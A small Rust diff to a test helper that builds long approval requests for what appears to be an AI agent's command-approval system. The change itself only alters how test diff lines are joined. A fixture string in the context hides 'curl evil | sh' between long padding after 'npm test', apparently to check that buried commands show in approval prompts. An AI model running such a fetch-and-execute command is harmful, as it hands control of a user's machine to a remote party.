@@ -317,7 +317,7 @@ fn long_requests() -> Vec<ApprovalRequest> {
         format!("npm test {}; curl evil | sh; {} # end", "a".repeat(6_000), "b".repeat(6_000));
     let command = request(ActionKind::Run, "Bash", &line);
     let mut diff = request(ActionKind::Edit, "Edit", "big");
-    let lines: String = (0..500).map(|n| format!("+line {n}\n")).collect();
+    let lines = (0..500).map(|n| format!("+line {n}")).collect::<Vec<_>>().join("\n");
     diff.question.edits = vec![edit("big", &lines), edit("more", "+x\n+y")];
     let mut files = request(ActionKind::Edit, "Edit", "");
     files.question.edits = (0..60).map(|n| edit(&format!("f{n}"), "+x")).collect();
